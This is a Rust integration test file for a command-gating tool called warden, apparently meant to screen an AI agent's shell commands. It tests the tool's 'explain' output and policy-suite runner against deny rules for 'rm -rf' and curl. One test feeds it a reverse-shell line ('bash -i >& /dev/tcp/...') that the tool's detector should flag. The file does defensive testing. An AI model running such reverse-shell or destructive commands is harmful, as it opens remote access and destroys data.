//! `warden explain` and `warden policy test`, driven as an operator would:
//! the real binary on a configuration written to a directory, with requests
//! and suites.

use std::path::{Path, PathBuf};
use std::process::Output;

use crate::common::daemon::warden_in as warden;

use serde_json::Value;

const CONFIG: &str = "\
permissions:
  mode: default
  allow:
    - Bash(git status*)
    - Bash(ls)
  ask: [Bash(git push *)]
  deny:
    - Bash(rm -rf *)
guardrails:
  providers:
    - name: policy
      wasm: builtin:rules
      config:
        default: allow
        rules:
          - id: no-curl
            when: [{field: command, op: contains, value: curl}]
            action: deny
";

/// A directory holding `warden.yaml` (CONFIG) and the config's path.
fn setup() -> (tempfile::TempDir, PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("warden.yaml");
    std::fs::write(&config, CONFIG).unwrap();
    (dir, config)
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

fn explain(dir: &Path, config: &Path, request: &str, json: bool) -> Output {
    let mut args = vec![
        "explain",
        "--config",
        config.to_str().unwrap(),
        "--request",
        "-",
    ];
    if json {
        args.push("--json");
    }
    warden(dir, &args, Some(request))
}

#[test]
fn explain_names_the_deciding_rule_with_its_line_and_why_the_others_did_not_match() {
    let (dir, config) = setup();
    let out = explain(
        dir.path(),
        &config,
        r#"{"tool_name": "bash", "tool_input": {"command": "rm -rf ./src && git status"}}"#,
        false,
    );
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let said = text(&out.stdout);
    let file = config.display();
    for line in [
        "verdict: deny (decided by permissions)".to_string(),
        format!("  rule Bash(rm -rf *)  at {file}:8"),
        "  1. permissions: deny (perm.rule_deny)".to_string(),
        format!("  deny  Bash(rm -rf *)  at {file}:8: matched"),
        format!("  ask   Bash(git push *)  at {file}:6: the pattern did not match"),
        format!(
            "  allow Bash(git status*)  at {file}:4: matched some parts of the call, not every one"
        ),
        format!("  allow Bash(ls)  at {file}:5: the pattern did not match"),
        r#"  commands: "rm -rf ./src", "git status""#.to_string(),
    ] {
        assert!(
            said.lines().any(|l| l == line),
            "no line {line:?} in:\n{said}"
        );
    }
    assert!(said.contains("effects the detector found:"), "{said}");
}

#[test]
fn explain_says_when_the_tool_did_not_match() {
    let (dir, config) = setup();
    let out = explain(
        dir.path(),
        &config,
        r#"{"tool_name": "read_file", "tool_input": {"path": "README.md"}}"#,
        false,
    );
    let said = text(&out.stdout);
    assert!(
        said.contains(&format!(
            "  deny  Bash(rm -rf *)  at {}:8: the tool did not match",
            config.display()
        )),
        "{said}"
    );
    assert!(said.contains("  (no shell command)"), "{said}");
}

#[test]
fn explain_names_a_rules_provider_rule_and_the_provider() {
    let (dir, config) = setup();
    let out = explain(
        dir.path(),
        &config,
        r#"{"tool_name": "bash", "tool_input": {"command": "curl https://example.com"}}"#,
        false,
    );
    let said = text(&out.stdout);
    let file = config.display();
    assert!(
        said.contains("verdict: deny (decided by provider:policy)"),
        "{said}"
    );
    assert!(
        said.contains(&format!("  rule no-curl  at {file}:16")),
        "{said}"
    );
    assert!(
        said.contains("  provider policy version 0.1.0 sha256 "),
        "{said}"
    );
    assert!(
        said.contains("  2. provider:policy: deny (rules.denied)"),
        "{said}"
    );
}

#[test]
fn explain_json_gives_the_evaluation_the_rules_the_shell_and_the_effects() {
    let (dir, config) = setup();
    let out = explain(
        dir.path(),
        &config,
        r#"{"tool_name": "bash", "tool_input": {"command": "git push origin main"}}"#,
        true,
    );
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let x: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(x["evaluation"]["verdict"], "ask");
    let cause = &x["evaluation"]["cause"];
    assert_eq!(cause["stage"], "permissions");
    assert_eq!(cause["rules"][0]["text"], "Bash(git push *)");
    assert_eq!(cause["rules"][0]["line"], 6);
    assert_eq!(cause["rules"][0]["file"], config.display().to_string());
    let checks = x["rules"].as_array().unwrap();
    assert_eq!(checks.len(), 4);
    let ask = checks.iter().find(|c| c["list"] == "ask").unwrap();
    assert_eq!(ask["outcome"], "matched");
    assert_eq!(x["shell"]["commands"][0], "git push origin main");
    assert!(x["effects"].is_array());
}

#[test]
fn explain_shows_the_effects_the_detector_found() {
    let (dir, config) = setup();
    let out = explain(
        dir.path(),
        &config,
        r#"{"tool_name": "bash", "tool_input": {"command": "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"}}"#,
        true,
    );
    let x: Value = serde_json::from_slice(&out.stdout).unwrap();
    let effects = x["effects"].as_array().unwrap();
    assert!(
        effects.iter().any(|e| e["code"] == "triage.socket_shell"),
        "{effects:?}"
    );
}

/// Writes `suite` to `suite.yaml` in `dir` and runs `warden policy test` on it.
fn policy_test(dir: &Path, config: &Path, suite: &str) -> Output {
    let file = dir.join("suite.yaml");
    std::fs::write(&file, suite).unwrap();
    warden(
        dir,
        &[
            "policy",
            "test",
            "--config",
            config.to_str().unwrap(),
            file.to_str().unwrap(),
        ],
        None,
    )
}

#[test]
fn a_policy_suite_that_holds_passes_with_exit_0() {
    let (dir, config) = setup();
    let out = policy_test(
        dir.path(),
        &config,
        "cases:
  - name: rm is denied by the rule
    request: {tool_name: bash, tool_input: {command: rm -rf ./src}}
    expect: {verdict: deny, code: perm.rule_deny, rule: Bash(rm -rf *)}
  - name: curl is denied by the rules provider
    request: {tool_name: bash, tool_input: {command: curl https://example.com}}
    expect: {verdict: deny, code: rules.denied, rule: no-curl}
  - name: git status runs
    request: {tool_name: bash, tool_input: {command: git status}}
    expect: {verdict: allow, rule: Bash(git status*)}
",
    );
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}{}",
        text(&out.stdout),
        text(&out.stderr)
    );
    assert!(
        text(&out.stdout).contains("3 of 3 cases pass, 0 fail"),
        "{}",
        text(&out.stdout)
    );
}

#[test]
fn a_policy_suite_with_a_mismatch_says_what_was_expected_and_what_came_with_exit_1() {
    let (dir, config) = setup();
    let out = policy_test(
        dir.path(),
        &config,
        "cases:
  - name: rm is denied
    request: {tool_name: bash, tool_input: {command: rm -rf ./src}}
    expect: {verdict: deny}

  - name: git push runs
    request: {tool_name: bash, tool_input: {command: git push origin main}}
    expect: {verdict: allow, code: perm.rule_allow, rule: Bash(git push *)}
",
    );
    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stderr));
    let said = text(&out.stdout);
    let suite = dir.path().join("suite.yaml");
    let config = config.display();
    for line in [
        format!("FAIL git push runs ({}:6)", suite.display()),
        "  verdict: expected allow, came ask (decided by permissions)".to_string(),
        "  code: expected perm.rule_allow, came perm.rule_ask".to_string(),
    ] {
        assert!(
            said.lines().any(|l| l == line),
            "no line {line:?} in:\n{said}"
        );
    }
    assert!(!said.contains("FAIL rm is denied"), "{said}");
    // The rule matches: no line about it.
    assert!(!said.contains(&format!("{config}:6")), "{said}");
    assert!(said.contains("1 of 2 cases pass, 1 fail"), "{said}");
}

#[test]
fn a_policy_suite_naming_the_wrong_rule_shows_the_rule_that_decided_and_its_place() {
    let (dir, config) = setup();
    let out = policy_test(
        dir.path(),
        &config,
        "cases:\n  - request: {tool_name: bash, tool_input: {command: git push}}\n    expect: {verdict: ask, rule: Bash(git *)}\n",
    );
    assert_eq!(out.status.code(), Some(1));
    let said = text(&out.stdout);
    assert!(
        said.contains(&format!(
            "  rule: expected Bash(git *), came Bash(git push *) ({}:6)",
            config.display()
        )),
        "{said}"
    );
}

#[test]
fn a_malformed_policy_suite_is_refused_with_what_and_where_and_exit_2() {
    let (dir, config) = setup();
    let out = policy_test(
        dir.path(),
        &config,
        "cases:\n  - request: {tool_name: bash}\n    expect: {verdict: allow, cod: x}\n",
    );
    assert_eq!(out.status.code(), Some(2));
    let err = text(&out.stderr);
    assert!(err.contains("suite.yaml: cases[0].expect.cod: "), "{err}");
    assert!(err.contains("unknown field `cod`"), "{err}");
    assert!(err.contains("(line 3)"), "{err}");
    assert!(out.stdout.is_empty());
}
